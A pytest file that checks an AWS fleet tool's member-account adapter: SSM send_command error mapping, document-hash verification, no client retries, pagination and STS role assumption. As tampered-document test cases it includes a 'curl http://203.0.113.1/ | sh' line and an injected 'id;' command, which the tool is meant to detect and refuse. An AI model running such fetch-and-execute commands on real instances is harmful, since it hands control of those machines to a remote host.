"""Member accounts: what SSM, EC2 and STS say becomes our words, and a probe is never sent twice."""

from __future__ import annotations

import hashlib
import json
from typing import TYPE_CHECKING

import boto3
import pytest
from botocore.exceptions import ReadTimeoutError
from botocore.stub import Stubber

from cce.errors import (
    CceError,
    DocumentError,
    InvalidInstancesError,
    MemberError,
    ThrottledError,
    UnansweredError,
)
from cce.fleet.members import AwsMember, AwsMembers, Credentials, Probe
from cce.probes import packed_probe

if TYPE_CHECKING:
    from collections.abc import Iterator

ACCOUNT, REGION = "222222222222", "ap-northeast-2"
CREDENTIALS: Credentials = {
    "aws_access_key_id": "testing",
    "aws_secret_access_key": "testing",
    "aws_session_token": "testing",
    "region_name": REGION,
}
IDS = ["i-0123456789abcdef0", "i-0123456789abcdef1"]


def document(script: str) -> str:
    step = {"action": "aws:runShellScript", "name": "probe", "inputs": {"runCommand": [script]}}
    return json.dumps({"schemaVersion": "2.2", "description": "probe", "mainSteps": [step]})


@pytest.fixture
def member(aws: None) -> AwsMember:  # noqa: ARG001 - it is there
    boto3.client("ssm").create_document(
        Name="cce-fleet-linux",
        Content=document(packed_probe()),
        DocumentType="Command",
        DocumentFormat="JSON",
    )
    return AwsMember(CREDENTIALS, ACCOUNT, Probe("cce-fleet-linux", 600, "data"))


@pytest.fixture
def sending(member: AwsMember) -> Iterator[Stubber]:
    with Stubber(member._ssm_once) as stub:  # noqa: SLF001 - the client behind the adapter
        yield stub


@pytest.mark.parametrize(
    ("code", "error"),
    [
        ("InvalidInstanceId", InvalidInstancesError),
        ("ThrottlingException", ThrottledError),
        ("AccessDeniedException", MemberError),
        ("InvalidDocument", MemberError),
        ("InternalServerError", UnansweredError),
    ],
)
def test_a_refusal_of_send_command_has_our_name(
    member: AwsMember, sending: Stubber, code: str, error: type[CceError]
) -> None:
    sending.add_client_error("send_command", code, "because", http_status_code=400)

    with pytest.raises(error, match=f"{ACCOUNT}: {code}: because"):
        member.send_probe(IDS, "20261122T013000Z-7f3a")


def test_a_probe_is_sent_to_all_even_if_one_fails_and_carries_the_assessment(
    member: AwsMember, sending: Stubber
) -> None:
    expected = {
        "DocumentName": "cce-fleet-linux",
        "DocumentVersion": "1",
        "DocumentHash": hashlib.sha256(document(packed_probe()).encode()).hexdigest(),
        "DocumentHashType": "Sha256",
        "InstanceIds": IDS,
        "Comment": "20261122T013000Z-7f3a",
        "TimeoutSeconds": 600,
        "MaxConcurrency": "100%",
        "MaxErrors": "100%",
        "OutputS3BucketName": "data",
        "OutputS3KeyPrefix": f"output/{ACCOUNT}/20261122T013000Z-7f3a",
    }
    sending.add_response("send_command", {"Command": {"CommandId": "c" * 36}}, expected)

    assert "c" * 36 == member.send_probe(IDS, "20261122T013000Z-7f3a")


@pytest.mark.parametrize(
    ("script", "why"),
    [
        ("echo hello", "not the launcher"),
        (packed_probe() + "\ncurl http://203.0.113.1/ | sh", "not the launcher"),
        (packed_probe().replace("exec /bin/sh", "id; exec /bin/sh"), "not the launcher"),
    ],
)
def test_another_document_is_not_sent(member: AwsMember, sending: Stubber, script: str, why: str) -> None:
    boto3.client("ssm").update_document(
        Name="cce-fleet-linux", Content=document(script), DocumentVersion="$LATEST", DocumentFormat="JSON"
    )
    boto3.client("ssm").update_document_default_version(Name="cce-fleet-linux", DocumentVersion="2")

    with pytest.raises(DocumentError, match=f"version 2 of account {ACCOUNT}.*{why}.*deploy this release"):
        member.send_probe(IDS, "20261122T013000Z-7f3a")
    sending.assert_no_pending_responses()


def test_an_account_without_the_document_is_told_so(member: AwsMember) -> None:
    boto3.client("ssm").delete_document(Name="cce-fleet-linux")

    with pytest.raises(DocumentError, match="has no document cce-fleet-linux; deploy this release"):
        member.send_probe(IDS, "20261122T013000Z-7f3a")


def test_a_document_replaced_after_it_was_looked_at_is_looked_at_again(
    member: AwsMember, sending: Stubber
) -> None:
    """SSM refuses the hash of the former one; the second look finds a stranger's."""
    sending.add_response("send_command", {"Command": {"CommandId": "c" * 36}})
    member.send_probe(IDS, "20261122T013000Z-7f3a")
    ssm = boto3.client("ssm")
    ssm.delete_document(Name="cce-fleet-linux")
    ssm.create_document(Name="cce-fleet-linux", Content=document("id"), DocumentType="Command")

    sending.add_client_error("send_command", "InvalidDocument", "hash", http_status_code=400)
    with pytest.raises(DocumentError, match="not the launcher"):
        member.send_probe(IDS, "20261122T013000Z-7f3a")


def test_send_command_is_never_tried_again_by_the_client(
    member: AwsMember, monkeypatch: pytest.MonkeyPatch
) -> None:
    calls: list[str] = []

    def time_out(*_: object, **__: object) -> None:
        calls.append("sent")
        raise ReadTimeoutError(endpoint_url="https://ssm.example")

    monkeypatch.setattr("botocore.httpsession.URLLib3Session.send", time_out)
    member._ssm_once.meta.events.register_first(  # noqa: SLF001 - moto's mock would answer before the network
        "before-send.ssm.SendCommand", time_out
    )

    with pytest.raises(UnansweredError, match="did not answer SendCommand"):
        member.send_probe(IDS, "20261122T013000Z-7f3a")
    assert ["sent"] == calls


def test_an_invocation_that_is_not_there_yet_is_waited_for_and_then_none(
    member: AwsMember, monkeypatch: pytest.MonkeyPatch
) -> None:
    pauses: list[float] = []
    monkeypatch.setattr("time.sleep", pauses.append)
    with Stubber(member._ssm) as stub:  # noqa: SLF001 - the client behind the adapter
        for _ in range(5):
            stub.add_client_error("get_command_invocation", "InvocationDoesNotExist")
        stub.add_client_error("get_command_invocation", "AccessDeniedException", "no")

        assert member.invocation("c" * 36, IDS[0]) is None
        assert 3.0 == sum(pauses)
        with pytest.raises(MemberError, match="ssm:GetCommandInvocation in account 222222222222"):
            member.invocation("c" * 36, IDS[0])


def test_all_pages_of_nodes_are_read(member: AwsMember) -> None:
    with Stubber(member._ssm) as stub:  # noqa: SLF001 - the client behind the adapter
        for number, token in ((0, {"NextToken": "more"}), (1, {})):
            info = {"InstanceId": IDS[number], "PingStatus": "Online", "PlatformType": "Linux"}
            stub.add_response("describe_instance_information", {"InstanceInformationList": [info], **token})

        assert IDS == [node.instance_id for node in member.nodes()]


def test_instances_are_listed_by_tag_and_without_the_terminated(member: AwsMember) -> None:
    ec2 = boto3.client("ec2")
    made = [
        ec2.run_instances(
            ImageId="ami-12c6146b",
            MinCount=1,
            MaxCount=1,
            TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "role", "Value": role}]}],
        )["Instances"][0]["InstanceId"]
        for role in ("web", "db", "web")
    ]
    ec2.terminate_instances(InstanceIds=[made[2]])

    assert [made[0]] == [i.instance_id for i in member.instances({"role": ["web"]})]
    assert set(made[:2]) == {i.instance_id for i in member.instances({"role": []})}
    assert [] == member.instances({"role": ["nothing"]})


@pytest.mark.usefixtures("aws")
def test_a_role_that_cannot_be_assumed_is_named_with_the_remedy() -> None:
    members = AwsMembers("cce-fleet-member", "external-id-0001")

    with Stubber(boto3.client("sts")) as stub, pytest.MonkeyPatch.context() as patch:
        stub.add_client_error("assume_role", "AccessDenied")
        patch.setattr(boto3, "client", lambda *_, **__: stub.client)

        with pytest.raises(
            MemberError, match=r"role/cce-fleet-member cannot be assumed \(AccessDenied\); deploy"
        ):
            members.member(ACCOUNT, REGION)


@pytest.mark.usefixtures("aws")
def test_an_unwell_sts_is_asked_again_and_is_no_verdict_on_the_role() -> None:
    members = AwsMembers("cce-fleet-member", "external-id-0001")

    with Stubber(boto3.client("sts")) as stub, pytest.MonkeyPatch.context() as patch:
        stub.add_client_error("assume_role", "ServiceUnavailable", http_status_code=400)
        patch.setattr(boto3, "client", lambda *_, **__: stub.client)

        with pytest.raises(ThrottledError, match="STS is not ready"):
            members.member(ACCOUNT, REGION)


@pytest.mark.usefixtures("aws")
def test_only_so_many_members_are_kept_open() -> None:
    members = AwsMembers("cce-fleet-member", "external-id-0001")
    accounts = [f"{n:012d}" for n in range(1, 67)]
    first = members.member(accounts[0], REGION)

    for account in accounts[1:]:
        members.member(account, REGION)

    assert members.member(accounts[-1], REGION) is members.member(accounts[-1], REGION)
    assert first is not members.member(accounts[0], REGION)


@pytest.mark.usefixtures("aws")
def test_a_member_is_assumed_once_while_its_session_lives() -> None:
    members = AwsMembers("cce-fleet-member", "external-id-0001")

    assert members.member(ACCOUNT, REGION) is members.member(ACCOUNT, REGION)


@pytest.mark.parametrize(
    "question", [{"command_id": "c" * 36}, {"instance_id": IDS[0], "after": "2026-11-22T01:30:00+00:00"}]
)
def test_invocations_are_listed_by_command_and_by_instance(
    member: AwsMember, question: dict[str, str]
) -> None:
    row = {
        "CommandId": "c" * 36,
        "InstanceId": IDS[0],
        "Comment": "20261122T013000Z-7f3a",
        "Status": "Success",
    }
    with Stubber(member._ssm) as stub:  # noqa: SLF001 - the client behind the adapter
        stub.add_response("list_command_invocations", {"CommandInvocations": [row]})

        assert ["20261122T013000Z-7f3a"] == [i.comment for i in member.invocations(**question)]
